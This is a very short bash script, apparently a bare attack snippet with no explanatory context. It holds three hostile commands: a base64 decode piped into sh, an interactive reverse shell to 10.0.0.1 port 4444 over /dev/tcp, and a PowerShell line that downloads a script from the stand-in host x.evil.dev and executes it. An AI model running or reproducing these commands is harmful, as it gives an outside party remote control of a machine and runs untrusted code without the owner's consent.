#!/bin/bash
set -e
echo aGVsbG8K | base64 -d | sh
bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
powershell -c "iwr https://x.evil.dev/a.ps1 | iex"
